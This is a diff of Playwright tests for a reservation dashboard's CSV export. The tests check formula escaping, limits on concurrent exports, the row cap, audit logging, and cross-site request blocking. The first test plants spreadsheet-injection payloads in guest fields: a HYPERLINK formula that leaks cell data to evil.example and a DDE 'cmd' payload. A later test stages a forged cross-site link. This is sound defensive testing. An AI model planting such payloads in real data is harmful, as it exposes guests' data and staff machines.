@@ -1,5 +1,6 @@
 import { readFileSync } from 'node:fs';
 import { expect, test } from '@playwright/test';
+
 import { sandboxControls } from '../lib/sandbox/control-client';
 import { DEMO_PARTNER } from '../lib/sandbox/seed/demo';
 import { DASHBOARD_URL, SANDBOX_URL, STORAGE } from './env';
@@ -12,26 +13,46 @@ const direct = { orgId: 'org_harbour_vine_direct' };
 const SMALL = 'status[in]=confirmed,pending&sort=-date';
 const exportUrl = (query: string) => `${DASHBOARD_URL}/api/reservations/export?${query}`;
 
-test('guest text that a spreadsheet would run as a formula comes out of the export as text', async ({ page, request }) => {
+test('guest text that a spreadsheet would run as a formula comes out of the export as text', async ({
+  page,
+  request,
+}) => {
   type R = { id: string; notes: string | null; guest: { first_name: string; email: string } };
-  const [target] = ((await sandboxApi(request, '/v2/reservations?status=confirmed&sort=-created_at&limit=1', partner, direct)) as { data: R[] }).data;
+  const [target] = (
+    (await sandboxApi(request, '/v2/reservations?status=confirmed&sort=-created_at&limit=1', partner, direct)) as {
+      data: R[];
+    }
+  ).data;
   const hyperlink = '-2+3+HYPERLINK("https://evil.example/?leak="&H2,"Details")';
   const command = "+1+cmd|' /C calc'!A0";
-  await sandboxPatchReservation(request, partner, direct, target!.id, { notes: hyperlink, guest: { first_name: command } });
+  await sandboxPatchReservation(request, partner, direct, target!.id, {
+    notes: hyperlink,
+    guest: { first_name: command },
+  });
   try {
     await page.goto(`/reservations?guest_email=${encodeURIComponent(target!.guest.email)}`);
     // The search's paging loads over the server's render and reads the next page ahead: let it settle.
     await page.waitForLoadState('networkidle');
-    const [download] = await Promise.all([page.waitForEvent('download'), page.getByRole('button', { name: 'Export CSV' }).click()]);
-    const line = readFileSync((await download.path())!, 'utf8').split('\r\n').find((l) => l.startsWith(target!.id))!;
+    const [download] = await Promise.all([
+      page.waitForEvent('download'),
+      page.getByRole('button', { name: 'Export CSV' }).click(),
+    ]);
+    const line = readFileSync((await download.path())!, 'utf8')
+      .split('\r\n')
+      .find((l) => l.startsWith(target!.id))!;
     expect(line).toContain(`,"'-2+3+HYPERLINK(""https://evil.example/?leak=""&H2,""Details"")",`);
     expect(line).toContain(`,'+1+cmd|' /C calc'!A0,`);
   } finally {
-    await sandboxPatchReservation(request, partner, direct, target!.id, { notes: target!.notes, guest: { first_name: target!.guest.first_name } });
+    await sandboxPatchReservation(request, partner, direct, target!.id, {
+      notes: target!.notes,
+      guest: { first_name: target!.guest.first_name },
+    });
   }
 });
 
-test('two exports started at once by one staff member: one runs, the other is refused; once it ends another may start', async ({ page }) => {
+test('two exports started at once by one staff member: one runs, the other is refused; once it ends another may start', async ({
+  page,
+}) => {
   await page.goto('/reservations');
   // The search's paging loads over the server's render and reads the next page ahead: let it settle.
   await page.waitForLoadState('networkidle');
@@ -41,7 +62,9 @@ test('two exports started at once by one staff member: one runs, the other is re
     const [a, b] = await Promise.all([page.request.get(exportUrl(SMALL)), page.request.get(exportUrl(SMALL))]);
     const refused = a.status() === 409 ? a : b;
     expect([a.status(), b.status()].sort()).toEqual([200, 409]);
-    expect(((await refused.json()) as { error: string }).error).toBe('You already have an export running. Wait for it to finish, or cancel it, before starting another.');
+    expect(((await refused.json()) as { error: string }).error).toBe(
+      'You already have an export running. Wait for it to finish, or cancel it, before starting another.',
+    );
   } finally {
     await sandboxControls(SANDBOX_URL).clearFaults();
   }
@@ -49,7 +72,10 @@ test('two exports started at once by one staff member: one runs, the other is re
   expect(again.status()).toBe(200);
 });
 
-test('an export over the row cap is refused, saying how to narrow the search, before any reservation is read', async ({ page, request }) => {
+test('an export over the row cap is refused, saying how to narrow the search, before any reservation is read', async ({
+  page,
+  request,
+}) => {
   await page.goto('/reservations');
   // The search's paging loads over the server's render and reads the next page ahead: let it settle.
   await page.waitForLoadState('networkidle');
@@ -69,7 +95,10 @@ test('each export leaves one audit row with its search, its rows and how it ende
   // The search's paging loads over the server's render and reads the next page ahead: let it settle.
   await page.waitForLoadState('networkidle');
   const total = Number(await page.getByTestId('result-count').textContent());
-  const [download] = await Promise.all([page.waitForEvent('download'), page.getByRole('button', { name: 'Export CSV' }).click()]);
+  const [download] = await Promise.all([
+    page.waitForEvent('download'),
+    page.getByRole('button', { name: 'Export CSV' }).click(),
+  ]);
   await download.path();
   await expect(page.getByTestId('export-status')).toHaveText(`Exported ${total} reservations.`);
   await page.goto('/activity?action=export-reservations&staff=viewer%40demo.test');
@@ -80,15 +109,23 @@ test('each export leaves one audit row with its search, its rows and how it ende
   await expect(row.locator('pre')).toContainText(`"rows": ${total}`);
 });
 
-test('a link on another site that would start an export is refused, and no reservation is read', async ({ page, request }) => {
+test('a link on another site that would start an export is refused, and no reservation is read', async ({
+  page,
+  request,
+}) => {
   await page.route('http://evil.example/**', (route) =>
     route.fulfill({ contentType: 'text/html', body: `<a id="go" href="${exportUrl(SMALL)}">See your prize</a>` }),
   );
   await page.goto('http://evil.example/');
   const mark = await sandboxRequestMark(request);
-  const [response] = await Promise.all([page.waitForResponse((r) => r.url().startsWith(`${DASHBOARD_URL}/api/reservations/export`)), page.click('#go')]);
+  const [response] = await Promise.all([
+    page.waitForResponse((r) => r.url().startsWith(`${DASHBOARD_URL}/api/reservations/export`)),
+    page.click('#go'),
+  ]);
   expect(response.status()).toBe(403);
-  expect(((await response.json()) as { error: string }).error).toBe("This can only be started from the dashboard's own pages, not from another site (Sec-Fetch-Site cross-site).");
+  expect(((await response.json()) as { error: string }).error).toBe(
+    "This can only be started from the dashboard's own pages, not from another site (Sec-Fetch-Site cross-site).",
+  );
   const read = (await sandboxRequestsSince(request, mark)).filter((r) => r.path === '/v2/reservations');
   expect(read).toEqual([]);
 });
